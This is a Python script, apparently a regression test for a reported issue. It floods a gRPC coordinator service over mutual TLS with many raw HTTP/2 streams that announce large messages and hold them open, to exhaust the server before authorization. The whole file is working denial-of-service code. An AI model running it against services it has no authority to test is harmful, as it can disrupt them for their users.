#!/usr/bin/python3
"""Pre-authorization flood against a running sfl-coordinator (issue 11, item 1).

Opens CONNS HTTP/2 connections over mutual TLS with the given client
certificate; on each, STREAMS calls to PATH, every one announcing (gRPC
message prefix) ANNOUNCE bytes and then sending as much of them as the
coordinator's flow control lets through in HOLD seconds, never ending the
stream. Prints one line per final status seen ("status PATH CODE: message"),
"sent N" (DATA bytes the coordinator let through) and "open N" (streams still
open when it stops). Raw h2 (python3-h2), not grpcio: a gRPC library would not
announce more than it sends."""
import argparse
import socket
import ssl
import struct
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

ap = argparse.ArgumentParser()
for a in ("host", "ca", "cert", "key", "path"):
    ap.add_argument("--" + a, required=True)
ap.add_argument("--port", type=int, required=True)
ap.add_argument("--conns", type=int, default=4)
ap.add_argument("--streams", type=int, default=32)
ap.add_argument("--announce", type=int, default=64 << 20)
ap.add_argument("--send", type=int, default=16 << 20)
ap.add_argument("--hold", type=float, default=3.0)
o = ap.parse_args()

ctx = ssl.create_default_context(cafile=o.ca)
ctx.load_cert_chain(o.cert, o.key)
ctx.set_alpn_protocols(["h2"])
ctx.check_hostname = False

conns = []
for _ in range(o.conns):
    s = socket.create_connection((o.host, o.port), timeout=10)
    s = ctx.wrap_socket(s, server_hostname=o.host)
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    c.initiate_connection()
    s.sendall(c.data_to_send())
    s.setblocking(False)
    conns.append({"s": s, "c": c, "left": {}, "open": set()})

statuses = {}
sent = 0
chunk = b"\0" * 16384


def pump(k):
    """Reads what arrived, records final statuses, writes what h2 has."""
    global sent
    s, c = k["s"], k["c"]
    try:
        data = s.recv(1 << 16)
    except (ssl.SSLWantReadError, BlockingIOError):
        data = None
    except OSError:
        data = b""
    if data == b"":
        k["open"].clear()
        return False
    if data:
        for ev in c.receive_data(data):
            if isinstance(ev, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                h = dict((bytes(n), bytes(v)) for n, v in ev.headers)
                if b"grpc-status" in h:
                    msg = h.get(b"grpc-message", b"").decode()
                    key = "%s %s: %s" % (o.path, h[b"grpc-status"].decode(), msg)
                    statuses[key] = statuses.get(key, 0) + 1
                    k["open"].discard(ev.stream_id)
                    k["left"].pop(ev.stream_id, None)
            elif isinstance(ev, h2.events.StreamReset):
                k["open"].discard(ev.stream_id)
                k["left"].pop(ev.stream_id, None)
    for sid in list(k["left"]):
        while k["left"].get(sid, 0) > 0:
            try:
                w = min(c.local_flow_control_window(sid), k["left"][sid], len(chunk),
                        c.max_outbound_frame_size)
            except h2.exceptions.StreamClosedError:
                k["left"].pop(sid, None)
                break
            if w <= 0:
                break
            c.send_data(sid, chunk[:w])
            k["left"][sid] -= w
            sent += w
    out = c.data_to_send()
    if out:
        try:
            s.setblocking(True)
            s.sendall(out)
            s.setblocking(False)
        except OSError:
            k["open"].clear()
            return False
    return True


for k in conns:
    c = k["c"]
    for _ in range(o.streams):
        sid = c.get_next_available_stream_id()
        c.send_headers(sid, [(":method", "POST"), (":scheme", "https"), (":path", o.path),
                             (":authority", o.host), ("content-type", "application/grpc"),
                             ("te", "trailers")])
        c.send_data(sid, struct.pack(">BI", 0, o.announce))
        k["left"][sid] = o.send - 5
        k["open"].add(sid)
    pump(k)

end = time.monotonic() + o.hold
while time.monotonic() < end:
    for k in conns:
        pump(k)
    time.sleep(0.01)

for key in sorted(statuses):
    print("status %s x%d" % (key, statuses[key]))
print("sent %d" % sent)
print("open %d" % sum(len(k["open"]) for k in conns))
for k in conns:
    k["s"].close()
